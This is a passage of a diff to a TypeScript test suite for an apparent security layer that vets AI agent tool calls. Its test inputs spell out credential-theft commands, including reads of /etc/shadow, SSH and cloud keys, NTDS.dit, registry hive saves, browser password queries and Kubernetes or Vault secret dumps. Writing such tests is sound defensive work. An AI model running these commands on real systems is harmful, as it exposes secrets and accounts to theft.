         { action: "untar", target: "x.tar", content: "a/readme\n..\\..\\Windows\\a.dll\n" },
         "BLOCK",
       );
     });
 
     test("ALLOWs an ordinary extraction to an absolute destination", () => {
-      expectSeverity(
+      expectLayerVerdict(
+        layer,
         {
           action: "extract_archive",
           target: "dl/site.zip",
@@ -690,7 +743,7 @@ describe("layer > path", () => {
         "C:\\Users\\ana\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\History",
         "/home/ana/.mozilla/firefox/x1.default/places.sqlite",
       ]) {
-        expectSeverity(read(target), "BLOCK");
+        expectLayerVerdict(layer, read(target), "BLOCK");
       }
     });
 
@@ -700,25 +753,28 @@ describe("layer > path", () => {
         "/home/ana/.local/share/remmina/group_rdp_x.remmina",
         "/var/run/docker.sock",
       ]) {
-        expectSeverity(read(target), "BLOCK");
+        expectLayerVerdict(layer, read(target), "BLOCK");
       }
     });
 
     test("WARNs on a content search across the system for keys or passwords", () => {
       expectCode(
+        layer,
         shell("grep -rl 'BEGIN OPENSSH PRIVATE KEY' / 2>/dev/null"),
         "SENSITIVE_FILE_CONTENT_HUNT",
       );
-      expectSeverity(shell("grep -rn password docs/"), "ALLOW");
+      expectLayerVerdict(layer, shell("grep -rn password docs/"), "ALLOW");
     });
   });
 
   test("BLOCKs an unknown tool handed the SAM hive, not an ordinary registry key", () => {
-    expectSeverity(
+    expectLayerVerdict(
+      layer,
       { action: "registry_export", params: { key: "HKLM\\SAM", out: "s.hiv" } },
       "BLOCK",
     );
-    expectSeverity(
+    expectLayerVerdict(
+      layer,
       { action: "registry_read", params: { key: "HKLM\\SYSTEM\\CurrentControlSet\\Services" } },
       "ALLOW",
     );
@@ -726,28 +782,31 @@ describe("layer > path", () => {
 
   describe("UNC paths", () => {
     test("BLOCKs administrative and WebDAV shares, WARNs on a share on another network", () => {
-      expectSeverity(read("\\\\10.9.8.7\\c$\\Users\\Public\\a.txt"), "BLOCK");
-      expectSeverity(read("\\\\files.example.net@SSL\\DavWWWRoot\\a.docx"), "BLOCK");
-      expectSeverity(read("\\\\198.51.100.4\\pub\\a.txt"), "WARN");
+      expectLayerVerdict(layer, read("\\\\10.9.8.7\\c$\\Users\\Public\\a.txt"), "BLOCK");
+      expectLayerVerdict(layer, read("\\\\files.example.net@SSL\\DavWWWRoot\\a.docx"), "BLOCK");
+      expectLayerVerdict(layer, read("\\\\198.51.100.4\\pub\\a.txt"), "WARN");
     });
 
     test("ALLOWs an ordinary share on a server name and local device paths", () => {
-      expectSeverity(read("\\\\fileserver\\finance\\q3.xlsx"), "ALLOW");
-      expectSeverity(read("\\\\?\\C:\\src\\app\\README.md"), "ALLOW");
+      expectLayerVerdict(layer, read("\\\\fileserver\\finance\\q3.xlsx"), "ALLOW");
+      expectLayerVerdict(layer, read("\\\\?\\C:\\src\\app\\README.md"), "ALLOW");
     });
   });
 
   describe("commands given as argument arrays or to unknown tools", () => {
     test("BLOCKs a secret read when the command is split into a program and an argument array", () => {
       expectCode(
+        layer,
         { action: "run_command", params: { cmd: "tail", args: ["-n", "5", "/etc/shadow"] } },
         "SENSITIVE_FILE_ACCOUNTS",
       );
       expectCode(
+        layer,
         { action: "exec", params: { argv: ["/usr/bin/head", "/home/ci/.ssh/id_ecdsa"] } },
         "SENSITIVE_FILE_SSH",
       );
       expectCode(
+        layer,
         {
           action: "launch_process",
           params: { program: "type", arguments: ["%USERPROFILE%\\.aws\\credentials"] },
@@ -758,6 +817,7 @@ describe("layer > path", () => {
 
     test("BLOCKs a registry hive save whose words arrive as array elements", () => {
       expectCode(
+        layer,
         {
           action: "shell",
           params: { command: "reg.exe", args: ["save", "HKLM\\SECURITY", "D:\\out\\sec.bin"] },
@@ -767,7 +827,8 @@ describe("layer > path", () => {
     });
 
     test("BLOCKs a secret read through a remote or container execution tool", () => {
-      expectSeverity(
+      expectLayerVerdict(
+        layer,
         {
           action: "pod_exec",
           params: {
@@ -777,53 +838,65 @@ describe("layer > path", () => {
         },
         "BLOCK",
       );
-      expectSeverity(
+      expectLayerVerdict(
+        layer,
         { action: "ssh_run", params: { host: "jump", cmd: "sudo less /etc/gshadow" } },
         "BLOCK",
       );
-      expectSeverity(
+      expectLayerVerdict(
+        layer,
         { action: "winrm_exec", target: "dc01", content: "type C:\\Windows\\NTDS\\ntds.dit" },
         "BLOCK",
       );
     });
 
     test("ALLOWs a ticket or incident tool that quotes the command an attacker ran", () => {
-      expectSeverity(
+      expectLayerVerdict(
+        layer,
         {
           action: "create_ticket",
           params: { title: "Intrusion on web1", command: "cat /etc/shadow" },
         },
         "ALLOW",
       );
-      expectSeverity(
+      expectLayerVerdict(
+        layer,
         { action: "remote_exec_log_review", params: { command: "cat /etc/shadow" } },
         "BLOCK",
       );
     });
 
     test("ALLOWs ordinary argument arrays and remote commands", () => {
-      expectSeverity(
+      expectLayerVerdict(
+        layer,
         { action: "run_command", params: { cmd: "grep", args: ["-rn", "TODO", "src/"] } },
         "ALLOW",
       );
-      expectSeverity(
+      expectLayerVerdict(
+        layer,
         { action: "exec", params: { argv: ["ls", "-la", "/home/dev/.ssh"] } },
         "ALLOW",
       );
-      expectSeverity(
+      expectLayerVerdict(
+        layer,
         {
           action: "ssh_exec",
           params: { host: "web1", command: "journalctl -u nginx --since today" },
         },
         "ALLOW",
       );
-      expectSeverity({ action: "container_exec", params: { cmd: "cat /etc/os-release" } }, "ALLOW");
+      expectLayerVerdict(
+        layer,
+        { action: "container_exec", params: { cmd: "cat /etc/os-release" } },
+        "ALLOW",
+      );
     });
   });
 
   describe("browser and package credentials read from code or SQL", () => {
     test("BLOCKs code whose path literal with spaces names a browser password store", () => {
-      expectSeverity(
+      expectLayerVerdict(
+        layer,
         {
           action: "code_exec",
           params: {
@@ -836,6 +909,7 @@ describe("layer > path", () => {
 
     test("BLOCKs a query of the saved-password or cookie tables of a browser database", () => {
       expectCode(
+        layer,
         {
           action: "sql_query",
           content: "select signon_realm, username_value, password_value from logins",
@@ -843,6 +917,7 @@ describe("layer > path", () => {
         "SENSITIVE_FILE_BROWSER_SECRETS",
       );
       expectCode(
+        layer,
         {
           action: "code_exec",
           params: { code: "cur.execute('SELECT host, name, value FROM moz_cookies')" },
@@ -852,8 +927,13 @@ describe("layer > path", () => {
     });
 
     test("BLOCKs SQL that attaches or copies a credential file from the server's disk", () => {
-      expectSeverity({ action: "sql_query", content: "COPY t FROM '/root/.pgpass'" }, "BLOCK");
-      expectSeverity(
+      expectLayerVerdict(
+        layer,
+        { action: "sql_query", content: "COPY t FROM '/root/.pgpass'" },
+        "BLOCK",
+      );
+      expectLayerVerdict(
+        layer,
         {
           action: "run_sql",
           content: "ATTACH DATABASE '/home/x/.mozilla/firefox/ab12.default/places.sqlite' AS p",
@@ -864,6 +944,7 @@ describe("layer > path", () => {
 
     test("BLOCKs code that joins the home directory with a registry token file", () => {
       expectCode(
+        layer,
         {
           action: "code_exec",
           params: { code: "open(os.path.expanduser('~') + '/.pypirc').read()" },
@@ -874,14 +955,16 @@ describe("layer > path", () => {
 
     test("BLOCKs a PowerShell or cmd search for credential file names", () => {
       expectCode(
+        layer,
         shell("gci C:\\Users -Recurse -Include *.kdbx -ErrorAction SilentlyContinue"),
         "SENSITIVE_FILE_HUNT",
       );
-      expectCode(shell("where /r C:\\ id_rsa"), "SENSITIVE_FILE_HUNT");
+      expectCode(layer, shell("where /r C:\\ id_rsa"), "SENSITIVE_FILE_HUNT");
     });
 
     test("ALLOWs SQL that only stores a description of the technique inside a string literal", () => {
-      expectSeverity(
+      expectLayerVerdict(
+        layer,
         {
           action: "sql_query",
           content:
@@ -889,7 +972,8 @@ describe("layer > path", () => {
         },
         "ALLOW",
       );
-      expectSeverity(
+      expectLayerVerdict(
+        layer,
         {
           action: "sql_query",
           content: "INSERT INTO kb (body) VALUES ('Block COPY t FROM ''/etc/shadow'' by role.')",
@@ -899,59 +983,83 @@ describe("layer > path", () => {
     });
 
     test("ALLOWs ordinary queries of a logins table and ordinary file imports", () => {
-      expectSeverity(
+      expectLayerVerdict(
+        layer,
         { action: "sql_query", content: "SELECT user_id, COUNT(*) FROM logins GROUP BY user_id" },
         "ALLOW",
       );
-      expectSeverity(
+      expectLayerVerdict(
+        layer,
         { action: "sql_query", content: "COPY events FROM '/data/exports/events.csv' CSV" },
         "ALLOW",
       );
-      expectSeverity(
+      expectLayerVerdict(
+        layer,
         { action: "code_exec", params: { code: "open('reports/Q3 summary/notes.txt').read()" } },
         "ALLOW",
       );
-      expectSeverity(shell("Get-ChildItem -Recurse -Include *.cs,*.csproj"), "ALLOW");
+      expectLayerVerdict(layer, shell("Get-ChildItem -Recurse -Include *.cs,*.csproj"), "ALLOW");
     });
   });
 
   describe("bulk collection and file searches", () => {
     test("BLOCKs a tool that archives, uploads or backs up a whole credential directory", () => {
-      expectSeverity({ action: "tar_folder", params: { path: "/home/ops/.kube" } }, "BLOCK");
-      expectSeverity(
+      expectLayerVerdict(
+        layer,
+        { action: "tar_folder", params: { path: "/home/ops/.kube" } },
+        "BLOCK",
+      );
+      expectLayerVerdict(
+        layer,
         { action: "upload_dir", params: { dir: "~/.gnupg", to: "drive://x" } },
         "BLOCK",
       );
     });
 
     test("only WARNs when a tool merely lists a credential directory", () => {
-      expectSeverity({ action: "list_directory", params: { path: "/home/ops/.kube" } }, "WARN");
+      expectLayerVerdict(
+        layer,
+        { action: "list_directory", params: { path: "/home/ops/.kube" } },
+        "WARN",
+      );
     });
 
     test("BLOCKs a file search from the machine or home root for a credential file name", () => {
       expectCode(
+        layer,
         { action: "find_files", params: { root: "/", name: "wallet.dat" } },
         "SENSITIVE_FILE_CREDENTIAL_STORE",
       );
-      expectSeverity(
+      expectLayerVerdict(
+        layer,
         { action: "search_files", params: { base: "~", pattern: "id_ed25519" } },
         "BLOCK",
       );
     });
 
     test("ALLOWs searches inside a project or for ordinary names", () => {
-      expectSeverity({ action: "find_files", params: { root: "./app", name: "id_rsa" } }, "ALLOW");
-      expectSeverity(
+      expectLayerVerdict(
+        layer,
+        { action: "find_files", params: { root: "./app", name: "id_rsa" } },
+        "ALLOW",
+      );
+      expectLayerVerdict(
+        layer,
         { action: "search_files", params: { dir: "/", pattern: "docker-compose.yml" } },
         "ALLOW",
       );
-      expectSeverity({ action: "web_search", params: { query: "identity", region: "/" } }, "ALLOW");
+      expectLayerVerdict(
+        layer,
+        { action: "web_search", params: { query: "identity", region: "/" } },
+        "ALLOW",
+      );
     });
   });
 
   describe("confined tools", () => {
     test("BLOCKs a parameter that climbs out of the root the request declares", () => {
       expectCode(
+        layer,
         {
           action: "export_rows",
           params: { base_dir: "/srv/tenants/t-17", file: "../t-18/ledger.csv" },
@@ -961,28 +1069,33 @@ describe("layer > path", () => {
     });
 
     test("BLOCKs a one-level climb in a tool named as a directory or file tool", () => {
-      expectCode({ action: "dir_tree", params: { subpath: "../../other-team" } }, "PATH_TRAVERSAL");
+      expectCode(
+        layer,
+        { action: "dir_tree", params: { subpath: "../../other-team" } },
+        "PATH_TRAVERSAL",
+      );
     });
 
     test("keeps a climb inside the root, and the root itself, below BLOCK", () => {
-      expectSeverity(
+      expectLayerVerdict(
+        layer,
         { action: "list_directory", params: { root: "/data/a", subdir: "x/../y" } },
         "ALLOW",
       );
-      expectSeverity({ action: "build_docs", params: { root: "../docs" } }, "WARN");
+      expectLayerVerdict(layer, { action: "build_docs", params: { root: "../docs" } }, "WARN");
     });
   });
 
   test("reads a command substitution or variable inside a path as a wildcard", () => {
-    expectSeverity(shell("cat /proc/$(pgrep -f api | head -1)/environ"), "BLOCK");
-    expectSeverity(shell("cat /proc/`pidof nginx`/environ"), "BLOCK");
-    expectSeverity(shell("strings /proc/$PID/environ"), "BLOCK");
-    expectSeverity(shell("cat logs/app-$(date +%F).log"), "ALLOW");
+    expectLayerVerdict(layer, shell("cat /proc/$(pgrep -f api | head -1)/environ"), "BLOCK");
+    expectLayerVerdict(layer, shell("cat /proc/`pidof nginx`/environ"), "BLOCK");
+    expectLayerVerdict(layer, shell("strings /proc/$PID/environ"), "BLOCK");
+    expectLayerVerdict(layer, shell("cat logs/app-$(date +%F).log"), "ALLOW");
   });
 
   test("BLOCKs the nginx alias off-by-slash climb in a URL path only", () => {
-    expectSeverity(fetch("https://shop.example.org/static../app/settings.py"), "BLOCK");
-    expectSeverity(read("notes/wait../todo.md"), "ALLOW");
+    expectLayerVerdict(layer, fetch("https://shop.example.org/static../app/settings.py"), "BLOCK");
+    expectLayerVerdict(layer, read("notes/wait../todo.md"), "ALLOW");
   });
 
   test("the whole pipeline BLOCKs an encoded traversal to a secret file", () => {
@@ -1000,7 +1113,7 @@ describe("layer > path", () => {
       { action: "read_file", target: "" },
       { action: "read_file", params: { path: ["a", { b: null }] } },
     ] as ProtectRequest[]) {
-      assert.doesNotThrow(() => checkLayer(layer(), request));
+      assert.doesNotThrow(() => checkLayer(layer, request));
     }
     const ms = Number(process.hrtime.bigint() - started) / 1e6;
     assert.ok(ms < 2000, `took ${ms} ms`);
@@ -1009,7 +1122,8 @@ describe("layer > path", () => {
 
 describe("layer > path > secret stores and authentication logs", () => {
   test("BLOCKs a Kubernetes secret printed with jsonpath and decoded", () => {
-    expectSeverity(
+    expectLayerVerdict(
+      layer,
       {
         action: "kubectl",
         target:
@@ -1021,6 +1135,7 @@ describe("layer > path > secret stores and authentication logs", () => {
 
   test("BLOCKs a Kubernetes secret dumped as YAML through an unknown tool's command param", () => {
     expectCode(
+      layer,
       {
         action: "cluster_tool",
         params: { command: "kubectl -n prod get secrets api-keys -o yaml" },
@@ -1037,7 +1152,7 @@ describe("layer > path > secret stores and authentication logs", () => {
       "vault kv get -field=password secret/data/prod/db",
       "aws ssm get-parameter --name /prod/db/password --with-decryption",
     ]) {
-      expectSeverity(shell(command), "BLOCK");
+      expectLayerVerdict(layer, shell(command), "BLOCK");
     }
   });
 
@@ -1049,7 +1164,7 @@ describe("layer > path > secret stores and authentication logs", () => {
       "vault kv list secret/prod",
       "kubectl get pods -n prod -o yaml",
     ]) {
-      expectSeverity(shell(command), "ALLOW");
+      expectLayerVerdict(layer, shell(command), "ALLOW");
     }
   });
 
@@ -1060,30 +1175,39 @@ describe("layer > path > secret stores and authentication logs", () => {
       "/var/log/btmp",
       "/var/log/audit/audit.log",
     ]) {
-      expectSeverity(read(target), "WARN");
+      expectLayerVerdict(layer, read(target), "WARN");
     }
-    expectSeverity(shell("tail -n 200 /var/log/auth.log.1"), "WARN");
+    expectLayerVerdict(layer, shell("tail -n 200 /var/log/auth.log.1"), "WARN");
   });
 
   test("ALLOWs ordinary service logs and the login-accounting tools", () => {
-    expectSeverity(read("/var/log/nginx/access.log"), "ALLOW");
-    expectSeverity(read("/var/log/syslog"), "ALLOW");
-    expectSeverity(shell("last -F -n 50 -f /var/log/wtmp.1"), "ALLOW");
+    expectLayerVerdict(layer, read("/var/log/nginx/access.log"), "ALLOW");
+    expectLayerVerdict(layer, read("/var/log/syslog"), "ALLOW");
+    expectLayerVerdict(layer, shell("last -F -n 50 -f /var/log/wtmp.1"), "ALLOW");
   });
 });
 
 describe("layer > path > container environments", () => {
   test("WARNs when a container's environment is printed (docker inspect, exec env, kubectl exec env)", () => {
     expectCode(
+      layer,
       shell("docker inspect --format '{{json .Config.Env}}' billing-worker"),
       "SENSITIVE_FILE_ENV_DUMP",
     );
-    expectSeverity(shell("podman exec -it api printenv"), "WARN");
-    expectSeverity({ action: "kubectl", target: "kubectl exec -n prod deploy/web -- env" }, "WARN");
+    expectLayerVerdict(layer, shell("podman exec -it api printenv"), "WARN");
+    expectLayerVerdict(
+      layer,
+      { action: "kubectl", target: "kubectl exec -n prod deploy/web -- env" },
+      "WARN",
+    );
   });
 
   test("ALLOWs inspecting a container's health or running another command in it", () => {
-    expectSeverity(shell("docker inspect --format '{{.State.Health.Status}}' web"), "ALLOW");
-    expectSeverity(shell("docker exec web ls /app"), "ALLOW");
+    expectLayerVerdict(
+      layer,
+      shell("docker inspect --format '{{.State.Health.Status}}' web"),
+      "ALLOW",
+    );
+    expectLayerVerdict(layer, shell("docker exec web ls /app"), "ALLOW");
   });
 });
